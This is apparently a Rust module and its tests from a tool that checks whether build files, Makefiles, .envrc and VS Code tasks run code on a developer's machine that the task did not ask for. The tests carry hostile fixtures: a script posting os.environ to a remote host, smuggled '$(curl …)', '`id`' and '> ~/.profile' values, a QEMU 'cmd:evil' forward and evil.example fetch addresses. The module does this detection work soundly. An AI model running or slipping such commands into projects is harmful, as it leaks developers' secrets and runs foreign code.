//! Whether a task wants something to run on the developer's machine, and whether what runs can be read.
//!
//! Owns how a task is read for that; the words are those of `assets/findings/wanted_commands.toml`.

use std::collections::{BTreeMap, HashSet};
use std::sync::LazyLock;

use regex::Regex;
use serde::Deserialize;

use super::Subject;
use crate::text::shipped::shipped_table;
use crate::workspace::is_compiled;

#[derive(Deserialize, Default)]
#[serde(deny_unknown_fields)]
struct CommandWords {
    words: HashSet<String>,
    phrases: Vec<String>,
    before: HashSet<String>,
    programs: HashSet<String>,
}

static WORDS: LazyLock<CommandWords> = LazyLock::new(|| {
    shipped_table(include_str!("../../../assets/findings/wanted_commands.toml")).unwrap_or_default()
});

/// Whether a task, in small letters, wants something to run on the machine.
pub(super) fn are_wanted(task: &str) -> bool {
    let ends = |c: char| c.is_whitespace() || matches!(c, ',' | '(' | ')' | ':' | ';' | '`');
    let words = task.split(ends).map(|word| word.trim_end_matches('.'));
    // "Python-Skript" is a script, too.
    let is_word = |word: &str| WORDS.words.contains(word);
    words.into_iter().any(|word| is_word(word) || word.split('-').any(is_word))
        || WORDS.phrases.iter().any(|phrase| task.contains(phrase.as_str()))
}

/// Whether a task, in small letters, gives the variable that a command sets, with its value, which is no
/// path.
pub(super) fn gives_variable(command: &str, task: &str) -> bool {
    let value = command.strip_prefix("export ").filter(|it| !it.contains(['/', ' ', '$', '\\']));
    let value = value.filter(|it| it.split_once('=').is_some_and(|(_, value)| !value.is_empty()));
    let mut words = task.split(|c: char| c.is_whitespace() || ",;()`\"'".contains(c));
    value.is_some_and(|value| words.any(|word| word.trim_end_matches('.') == value.to_lowercase()))
}

/// Whether a task, in small letters, wants a target that a makefile has: "make deploy copies …".
pub(super) fn wants_target(task: &str, makefile: &str) -> bool {
    let targets = task.split(|c: char| c.is_whitespace() || "`\"'„“”«»,;:".contains(c));
    let targets = targets.map(|word| word.trim_end_matches('.'));
    let words: Vec<&str> = targets.filter(|word| !word.is_empty()).collect();
    let has = |target: &str| {
        makefile
            .lines()
            .any(|line| line.split_once(':').is_some_and(|(name, _)| name.to_lowercase() == target))
    };
    words.windows(2).any(|pair| match pair {
        ["make", target] => has(target),
        [target, "target" | "ziel" | "rule"] => has(target),
        _ => false,
    })
}

/// The environment of the framework, as its documents have it, from the variable or from a folder that a
/// person installs it in: `. $IDF_PATH/export.sh`. Nothing in the project can be that folder.
static EXPORT: LazyLock<Option<Regex>> = LazyLock::new(|| {
    Regex::new(
        r#"(?:\.|\bsource)\s+["']?(?:\$\{?(?:env:)?IDF_PATH\}?|(?:~|\$HOME|\$\{HOME\}|/opt)(?:/[\w-][\w.-]*)*/esp-idf)["']?/export\.sh["']?(?:\s*>\s*/dev/null)?"#,
    )
    .ok()
});

/// Whether a command sets up the framework and does nothing else; a variable counts as what `text` gives
/// it.
pub(super) fn is_export(command: &str, text: &str) -> bool {
    let values = text.lines().filter_map(|line| line.trim().split_once('='));
    let values =
        values.filter(|(name, _)| name.bytes().all(|it| it.is_ascii_lowercase() || it == b'_'));
    let mut known: BTreeMap<&str, &str> = BTreeMap::new();
    for (name, value) in values.filter(|(name, _)| !name.is_empty()) {
        // What is given twice may be either.
        let value = value.trim().trim_matches(['"', '\'']);
        known.entry(name).and_modify(|known| *known = "").or_insert(value);
    }
    let resolved = known.iter().fold(command.to_owned(), |command, (name, value)| {
        command
            .replace(&format!("${{{name}}}"), value)
            .replace(&format!("${name}/"), &format!("{value}/"))
    });
    EXPORT.as_ref().is_some_and(|export| {
        export.is_match(&resolved) && export.replace(&resolved, "").trim().is_empty()
    })
}

/// Whether a command runs a file of the project, which can be read there, or a compiler, or a tool that
/// formats or builds.
pub(super) fn is_known(command: &str, subject: &Subject<'_>) -> bool {
    static FOLDER: LazyLock<Option<Regex>> =
        LazyLock::new(|| Regex::new(r"\$(?:\{[^}]*\}|\([^)]*\))/|(?:\.\.?/)+").ok());
    let (Some(folder), Some(export)) = (FOLDER.as_ref(), EXPORT.as_ref()) else { return false };
    let command = &*export.replace_all(command, "");
    // A variable of make that a program gets by its own name.
    let given = command.trim_start().split_once(' ').filter(|(first, _)| {
        let value = first.split_once('=');
        value.is_some_and(|(name, value)| {
            name.bytes().all(|byte| byte.is_ascii_uppercase() || byte == b'_')
                && (value == format!("$({name})") || value == format!("\"$({name})\""))
        })
    });
    let command = given.map_or(command, |(_, rest)| rest);
    // Folders of the project that stand before a path.
    let command = folder.replace_all(command, "");
    // What comes behind another command counts as much.
    let mut parts =
        command.split([';', '|', '&']).filter(|part| !part.trim().is_empty()).peekable();
    parts.peek().is_some() && parts.all(|part| is_known_part(part, subject))
}

/// Whether a task, in small letters, names the file of the project that a command runs, and the command
/// hands it nothing that runs, comes from elsewhere, or goes to a file.
pub(super) fn is_named(command: &str, subject: &Subject<'_>, task: &str) -> bool {
    // `$(ENV)` of make is a variable, `$(curl …)` of a shell is a command.
    let mut behind = command.split("$(").skip(1);
    let are_variables = behind.all(|rest| {
        let name = rest.split(')').next().unwrap_or_default();
        rest.contains(')') && name.bytes().all(|byte| byte.is_ascii_alphanumeric() || byte == b'_')
    });
    let is_plain = are_variables && !command.contains(['<', '>']) && !command.contains("://");
    let files = subject.files().iter().map(|file| &file.path);
    let mut files = files.chain(subject.context.proposed.paths());
    is_plain
        && files.any(|file| {
            let path = file.as_str();
            path.contains('/') && command.contains(path) && task.contains(&path.to_lowercase())
        })
}

/// Whether a task, in small letters, gives both the address of what a text fetches and its commit or tag.
/// An address that the file fetched from before, `base`, need not be given again. A text that fetches or
/// runs something else, too, is not that.
pub(super) fn names_source(text: &str, (task, base): (&str, &str)) -> bool {
    static REVISION: LazyLock<Option<Regex>> =
        LazyLock::new(|| Regex::new(r#"(?:\bgit_tag\s+|\.git#)["']?([^\s"'()#]+)"#).ok());
    let Some(revision) = REVISION.as_ref() else { return false };
    let text = text.to_lowercase();
    // A commit, or a tag with a number in it; a branch moves on.
    let is_fixed = |word: &str| {
        let is_commit = word.len() == 40 && word.bytes().all(|it| it.is_ascii_hexdigit());
        is_commit || word.contains('.') && word.contains(|c: char| c.is_ascii_digit())
    };
    let named = || task.split(|c: char| c.is_whitespace() || ",;()`\"'".contains(c));
    let is_named = |word: &str| named().any(|of_task| of_task.trim_end_matches('.') == word);
    let is_end = |c: char| c.is_whitespace() || matches!(c, '"' | '\'' | '(' | ')' | '#');
    let bare = |address: &str| {
        let address = address.trim_end_matches(['.', '/']);
        let address = address.strip_prefix("https://").unwrap_or(address);
        address.strip_suffix(".git").unwrap_or(address).to_owned()
    };
    let base = base.to_lowercase();
    let is_known_address = |address: &str| {
        let wanted = bare(address);
        // Of GitHub the owner and the name are enough: "throwtheswitch/unity".
        let short = wanted.strip_prefix("github.com/").filter(|it| it.matches('/').count() == 1);
        let is = |of_task: &str| of_task == wanted || Some(of_task) == short;
        let is_named = || named().any(|of_task| is(&bare(of_task)));
        !wanted.is_empty() && is_named() || base.split(is_end).any(|it| it == address)
    };
    // `URL_HASH SHA256=…`: an archive that cannot be another one.
    let code: String =
        text.lines().flat_map(|line| [line.split(" #").next().unwrap_or(line), "\n"]).collect();
    let hash = code.split_once("url_hash").and_then(|(_, rest)| rest.split_once('='));
    let hash = hash.map(|(_, rest)| rest.split(is_end).next().unwrap_or_default());
    let is_hash = |hash: &str| {
        hash.len() == 64 && hash.bytes().all(|it| it.is_ascii_hexdigit()) && is_named(hash)
    };
    let mut addresses = text.split(is_end).filter(|word| word.contains("://")).peekable();
    if hash.is_some_and(is_hash) {
        return !text.contains("_command")
            && !text.contains("git_")
            && addresses.peek().is_some()
            && addresses.all(is_known_address);
    }
    let mut revisions = revision.captures_iter(&text).filter_map(|found| found.get(1)).peekable();
    !text.contains("_command")
        && addresses.peek().is_some()
        && addresses.all(is_known_address)
        && revisions.peek().is_some()
        && revisions.all(|revision| is_fixed(revision.as_str()) && is_named(revision.as_str()))
}

fn is_known_part(command: &str, subject: &Subject<'_>) -> bool {
    let is_of_word = |c: char| c.is_alphanumeric() || matches!(c, '_' | '-' | '.' | '/' | '+');
    let command = as_module(command, subject).unwrap_or(command);
    let mut words = command.split(|c: char| !is_of_word(c)).filter(|word| !word.is_empty());
    let Some(first) = words.find(|word| !WORDS.before.contains(*word)) else { return false };
    // `cmake -P` runs a script of its own.
    if WORDS.programs.contains(first) {
        let is_variable = first.bytes().all(|byte| byte.is_ascii_uppercase() || byte == b'_');
        let is_other = is_variable && is_set_otherwise(first, subject);
        // `guestfwd=…-cmd:…` of QEMU runs a program of its own, too.
        return !is_other && ![" -P", "cmd:", "exec:"].iter().any(|part| command.contains(part));
    }
    let files = subject.files().iter().map(|file| &file.path);
    let mut files = files.chain(subject.context.proposed.paths());
    files.any(|file| {
        // `test_pump` is made of `test_pump.c`.
        let is_made_of = is_compiled(file) && file.file_name().split('.').next() == Some(first);
        is_made_of || file.as_str() == first || file.as_str().ends_with(&format!("/{first}"))
    })
}

/// `pytest …` of `python3 -m pytest …`, where the project holds no module of that name.
fn as_module<'c>(command: &'c str, subject: &Subject<'_>) -> Option<&'c str> {
    const MODULES: [&str; 4] = ["pytest", "platformio", "esptool", "mpremote"];
    let (program, rest) = command.trim_start().split_once(" -m ")?;
    let module = rest.split_whitespace().next().filter(|module| MODULES.contains(module))?;
    let files = subject.files().iter().map(|file| &file.path);
    let mut files = files.chain(subject.context.proposed.paths());
    let is_own = files.any(|file| {
        let mut parts = file.as_str().split('/');
        parts.any(|part| part.strip_suffix(".py").unwrap_or(part) == module)
    });
    (["python", "python3"].contains(&program) && !is_own).then_some(rest)
}

/// Whether a file gives a variable, `PIO ?= pio`, a value that is not such a program.
fn is_set_otherwise(name: &str, subject: &Subject<'_>) -> bool {
    let lines = subject.text().unwrap_or_default().lines();
    let values = lines.filter_map(|line| {
        let (left, value) = line.split_once('=')?;
        let left = left.trim_start_matches("export ").trim_end_matches([' ', '\t', '?', ':', '+']);
        (left == name).then_some(value)
    });
    values.into_iter().any(|value| {
        let words = value.split_whitespace().map(|word| word.rsplit('/').next().unwrap_or(word));
        let mut words = words.skip_while(|word| WORDS.before.contains(*word));
        // What it hands to the program is on the screen, and runs nothing else.
        let is_program = words.next().is_none_or(|word| WORDS.programs.contains(word));
        !is_program || value.contains([';', '|', '&', '`', '<', '>']) || value.contains("$(shell")
    })
}

#[cfg(test)]
mod tests {
    use super::super::test_changes::TestProject;
    use super::*;
    use crate::model::CheckKind;

    fn level(task: &str, list: &str) -> Vec<String> {
        let files = [("tools/pack.py", "print(1)\n"), ("main/main.c", "int a;\n")];
        let all = TestProject { files: &files, task, chip: None }
            .reported(CheckKind::HostCode, &[("main/CMakeLists.txt", Some(list))]);
        all.iter().filter_map(|found| Some(found.split(' ').nth(1)?.to_owned())).collect()
    }

    #[test]
    fn an_archive_with_the_hash_of_the_task_is_a_named_source() {
        let hash = "ab".repeat(32);
        let task = format!("fetch https://m.example/unity.tar.gz (sha256 {hash})");
        let part = |hash: &str| {
            format!(
                "FetchContent_Declare(unity\n    URL https://m.example/unity.tar.gz\n    {hash}\n)"
            )
        };
        assert!(names_source(&part(&format!("URL_HASH SHA256={hash}")), (&task, "")));
        for other in [
            format!("# URL_HASH SHA256={hash}"),
            format!("URL_HASH SHA256={}", "cd".repeat(32)),
            format!("URL_HASH SHA256={hash} PATCH_COMMAND sh a.sh"),
            format!("URL_HASH SHA256={hash} URL https://evil.example/u.tar.gz"),
            String::new(),
        ] {
            assert!(!names_source(&part(&other), (&task, "")), "{other}");
        }
    }

    #[test]
    fn what_a_task_wants_and_the_project_holds_is_a_note() {
        let of = |program: &str| format!("execute_process(COMMAND {program} a)\n");
        let task = "Pack the pages with a script at build time";
        assert_eq!(level(task, &of("python tools/pack.py")), ["Note:"]);
        assert_eq!(level("Blink", &of("python tools/pack.py")), ["Warning:"]);
        for foreign in [
            "python /opt/pack.py",
            "gen_pages",
            "./unpack",
            "python other.py",
            "cmake -P other.cmake",
            "python tools/pack.py && gen_pages",
        ] {
            assert_eq!(level(task, &of(foreign)), ["Warning:"], "{foreign}");
        }
        assert_eq!(level(task, &of("curl https://a.example")), ["Stop:"]);
    }

    #[test]
    fn what_a_task_wants_in_a_folder_and_in_the_editor_is_a_note() {
        let found = |task: &str, (path, text): (&str, &str)| {
            TestProject { files: &[], task, chip: None }
                .reported(CheckKind::HostCode, &[(path, Some(text))])
                .into_iter()
                .filter(|found| !found.contains(" Note: "))
                .count()
        };
        let text = "export IDF_TARGET=esp32c6\nidf_dir=\"$HOME/esp/v5.2/esp-idf\"\nif [ -f \
                    \"$idf_dir/export.sh\" ]; then\n  source \"$idf_dir/export.sh\" >/dev/null\nelse\n  \
                    echo \"No $idf_dir\" >&2\nfi\n";
        assert_eq!(found("Add a .envrc that loads ESP-IDF", (".envrc", text)), 0);
        assert!(found("Blink", (".envrc", text)) > 0);
        let other = text.replace("export.sh\" >", "other.sh\" >");
        assert!(found("Add a .envrc that loads ESP-IDF", (".envrc", &other)) > 0);
        // A folder that the project, or anybody, can fill.
        for folder in ["./esp-idf", "$PWD/esp-idf", "/tmp/esp-idf", "$HOME/../tmp/esp-idf", "tools"]
        {
            let other = text.replace("$HOME/esp/v5.2/esp-idf", folder);
            assert!(found("Add a .envrc that loads ESP-IDF", (".envrc", &other)) > 0, "{folder}");
        }
        let twice = text.replace("if [", "idf_dir=\"./esp-idf\"\nif [");
        assert!(found("Add a .envrc that loads ESP-IDF", (".envrc", &twice)) > 0);
        let task = |command: &str| format!("{{\"tasks\": [{{\"command\": \"{command}\"}}]}}\n");
        let tasks = "Add a tasks.json";
        assert_eq!(found(tasks, (".vscode/tasks.json", &task("cargo build --release"))), 0);
        assert_eq!(found(tasks, (".vscode/tasks.json", &task("cargo install x"))), 1);
        for options in ["--manifest-path=/tmp/x", "--config=/tmp/x.toml"] {
            let command = format!("cargo build {options}");
            assert_eq!(found(tasks, (".vscode/tasks.json", &task(&command))), 1, "{options}");
        }
        let list = "find_program(GIT git)\nexecute_process(COMMAND ${GIT} describe --tags)\n";
        assert_eq!(found("Take the version from git", ("CMakeLists.txt", list)), 0);
    }

    #[test]
    fn a_script_that_the_task_names_and_a_test_of_an_own_program_are_notes() {
        let make = |task: &str| {
            let text = "all:\n\t$(CC) a.c\n\nrelease: all\n\tsh scripts/release.sh $(ENV)\n";
            let files = [("scripts/release.sh", "cp a b\n"), ("Makefile", "all:\n\t$(CC) a.c\n")];
            TestProject { files: &files, task, chip: None }
                .reported(CheckKind::HostCode, &[("Makefile", Some(text))])
        };
        let named = "Add a make target `release` that runs scripts/release.sh";
        assert!(make(named).iter().all(|found| found.contains(" Note: ")), "{:?}", make(named));
        assert!(make("Blink").iter().any(|found| found.contains(" Stop: ")), "{:?}", make("Blink"));
        for more in
            ["$(curl a.example)", "`id`", "> ~/.profile", "; curl a.example", "https://a.example"]
        {
            let text = format!("release:\n\tsh scripts/release.sh {more}\n");
            let files = [("scripts/release.sh", "cp a b\n")];
            let all = TestProject { files: &files, task: named, chip: None }
                .reported(CheckKind::HostCode, &[("Makefile", Some(&text))]);
            assert!(!all.iter().all(|found| found.contains(" Note: ")), "{more}: {all:?}");
        }
        let path = "make release should do what scripts/release.sh does";
        let more = "all:\n\t$(CC) a.c\n\nrelease:\n\tPORT=$(PORT) bash scripts/release.sh\n";
        let files = [("scripts/release.sh", "cp a b\n"), ("Makefile", "all:\n\t$(CC) a.c\n")];
        let all = TestProject {
            files: &files,
            task: "A \"make release\" that calls scripts/release.sh",
            chip: None,
        }
        .reported(CheckKind::HostCode, &[("Makefile", Some(more))]);
        assert!(all.iter().all(|found| found.contains(" Note: ")), "{all:?}");
        let other = "make it clear in scripts/release.sh what it does";
        assert!(make(other).iter().any(|found| found.contains(" Stop: ")), "{:?}", make(other));
        assert!(make(path).iter().all(|found| found.contains(" Note: ")), "{:?}", make(path));
        let test = "add_executable(test_ring test_ring.c)\n\
                    add_test(NAME test_ring COMMAND test_ring)\n";
        assert_eq!(level("Blink", test), ["Note:"]);
        assert_eq!(level("Blink", &test.replace("COMMAND test_ring", "COMMAND other")).len(), 1);
    }

    #[test]
    fn a_fetch_of_the_commit_that_the_task_gives_is_a_note() {
        let commit = "7c3d1e0b94a6f2588d0e6a1f3b5c79d2e48f0a61";
        let list = |address: &str, tag: &str| {
            format!("FetchContent_Declare(etl GIT_REPOSITORY {address}\n  GIT_TAG {tag})\n")
        };
        let task = format!("Take https://github.com/etlcpp/etl.git at commit {commit}");
        let etl = "https://github.com/ETLCPP/etl.git";
        assert_eq!(level(&task, &list(etl, commit)), ["Note:"]);
        assert_eq!(level(&task, &list(etl, "main")), ["Stop:"]);
        let tagged = "Take https://github.com/etlcpp/etl.git, tag v1.3.2.";
        assert_eq!(level(tagged, &list(etl, "v1.3.2")), ["Note:"]);
        assert_eq!(level(tagged, &list(etl, "v1.3")), ["Stop:"]);
        let short = "Take ETLCPP/etl tag v1.3.2 by FetchContent";
        assert_eq!(level(short, &list(etl, "v1.3.2")), ["Note:"]);
        assert_eq!(level(short, &list("https://evil.example/etlcpp/etl", "v1.3.2")), ["Stop:"]);
        assert_eq!(level(short, &list("https://github.com/evil/etl", "v1.3.2")), ["Stop:"]);
        assert_eq!(level(tagged, &list(&format!("{etl}x"), "v1.3.2")), ["Stop:"]);
        for comment in ["tag v1.3.2", "GIT_TAG v1.3.2"] {
            let hidden = list(etl, &format!("evil.1  # {comment}\n"));
            assert_eq!(level(tagged, &hidden), ["Stop:"], "it takes another: {comment}");
        }
        // An address that was there before need not be given again.
        let old = list(etl, "v1.3.2");
        let files = [("main/CMakeLists.txt", old.as_str())];
        let pin = format!("Take commit {commit} in place of the tag");
        let pinned = |address: &str| {
            TestProject { files: &files, task: &format!("{pin} in the script"), chip: None }
                .reported(
                    CheckKind::HostCode,
                    &[("main/CMakeLists.txt", Some(&list(address, commit)))],
                )
        };
        assert!(pinned(etl).iter().all(|found| found.contains(" Note: ")), "{:?}", pinned(etl));
        let other = pinned("https://a.example/etl.git");
        assert!(other.iter().any(|found| found.contains(" Stop: ")), "{other:?}");
        let runs = list(etl, "v1.3.2 PATCH_COMMAND sh a.sh");
        assert!(level(tagged, &runs).contains(&"Stop:".to_owned()), "it runs something, too");
        assert_eq!(level(&task, &list("https://a.example/etl.git", commit)), ["Stop:"]);
        assert_eq!(level("Take etl", &list(etl, commit)), ["Stop:"]);
    }

    #[test]
    fn a_variable_that_the_task_gives_is_a_note() {
        let found = |task: &str, line: &str| {
            TestProject { files: &[], task, chip: None }
                .reported(CheckKind::HostCode, &[(".envrc", Some(line))])
                .into_iter()
                .filter(|found| !found.contains(" Note: "))
                .count()
        };
        let task = "Add an .envrc with ESP_LOG=info";
        assert_eq!(found(task, "export ESP_LOG=info\n"), 0);
        assert_eq!(found(task, "export ESP_LOG=debug\n"), 1);
        assert_eq!(found("Add an .envrc", "export ESP_LOG=info\n"), 1);
        assert_eq!(found("Add an .envrc with PATH=/tmp/a", "export PATH=/tmp/a\n"), 1);
    }

    #[test]
    fn what_a_script_sends_is_never_lowered() {
        let script = "import os, urllib.request\nImport(\"env\")\n\
                      req = urllib.request.Request(\"https://a.example/v1\", str(os.environ).encode())\n\
                      urllib.request.urlopen(req)\n";
        for task in
            ["Beim Bauen den Zeitstempel setzen", "Add an extra_script", "Use tools/stamp.py"]
        {
            let found = TestProject { files: &[], task, chip: None }
                .reported(CheckKind::HostCode, &[("tools/stamp.py", Some(script))]);
            assert!(found.iter().any(|found| found.contains(" Stop: ")), "{task}: {found:?}");
        }
    }

    #[test]
    fn the_environment_of_the_framework_is_known() {
        let found = |command: &str| {
            let text =
                format!("{{\"tasks\": [{{\"type\": \"shell\", \"command\": \"{command}\"}}]}}\n");
            TestProject { files: &[], task: "Add a tasks.json that builds", chip: None }
                .reported(CheckKind::HostCode, &[(".vscode/tasks.json", Some(&text))])
        };
        let build = found(". ${env:IDF_PATH}/export.sh && idf.py build");
        assert!(build.iter().all(|found| found.contains(" Note: ")), "{build:?}");
        for other in [". ${env:IDF_PATH}/export.sh && ./fetch", ". /tmp/export.sh && idf.py build"]
        {
            let all = found(other);
            assert!(!all.iter().all(|found| found.contains(" Note: ")), "{other}: {all:?}");
        }
    }

    #[test]
    fn an_emulator_that_a_task_wants_is_a_note_and_what_it_starts_is_not() {
        let found = |task: &str, options: &str| {
            let list = format!("qemu: all\n\tqemu-system-xtensa -nographic {options}\n");
            let all = TestProject { files: &[], task, chip: None }
                .reported(CheckKind::HostCode, &[("Makefile", Some(&list))]);
            all.into_iter().filter(|found| !found.contains(" Note: ")).count()
        };
        assert_eq!(found("Add `make qemu`", "-drive file=a.bin,if=mtd"), 0);
        assert_eq!(found("Blink", "-drive file=a.bin,if=mtd"), 1);
        let runs = "-nic user,guestfwd=tcp:10.0.2.100:80-cmd:evil";
        assert_eq!(found("Add `make qemu`", runs), 1);
    }

    #[test]
    fn a_module_of_python_is_known_where_the_project_has_none_of_that_name() {
        let found = |files: &[(&str, &str)], command: &str| {
            let text = format!("{{\"tasks\": [{{\"command\": \"{command}\"}}]}}\n");
            let project = TestProject { files, task: "Add VS Code tasks", chip: None };
            let all = project.reported(CheckKind::HostCode, &[(".vscode/tasks.json", Some(&text))]);
            all.into_iter().filter(|found| !found.contains(" Note: ")).count()
        };
        assert_eq!(found(&[], "python3 -m pytest -q tools"), 0);
        assert_eq!(found(&[("pytest.py", "import os\n")], "python3 -m pytest -q tools"), 1);
        assert_eq!(found(&[("pytest/a.py", "import os\n")], "python3 -m pytest -q tools"), 1);
        assert_eq!(found(&[], "python3 -m http.server"), 1);
    }

    #[test]
    fn a_variable_is_known_by_its_value() {
        let found = |value: &str| {
            let list = format!("PIO ?= {value}\nsize:\n\t$(PIO) run -e $(ENV) -t size\n");
            let task = "Add `make size`";
            let all = TestProject { files: &[], task, chip: None }
                .reported(CheckKind::HostCode, &[("Makefile", Some(&list))]);
            all.into_iter().filter(|found| found.contains("PIO")).collect::<Vec<_>>()
        };
        let shown = "runs `$(PIO) run -e $(ENV) -t size` when make runs";
        assert_eq!(found("pio"), [format!("Makefile Note: {shown}")]);
        assert_eq!(found("python -m pio")[0], format!("Makefile Warning: {shown}"));
        assert_eq!(found("./helper pio")[0], format!("Makefile Warning: {shown}"));
    }

    #[test]
    fn a_task_wants_commands_by_its_words() {
        for task in [
            "füge ein `makefile` hinzu",
            "write a script for it",
            "add host tests",
            "show the version (git).",
        ] {
            assert!(are_wanted(task), "{task}");
        }
        for task in ["", "make the light blink", "describe the cities"] {
            assert!(!are_wanted(task), "{task}");
        }
    }
}
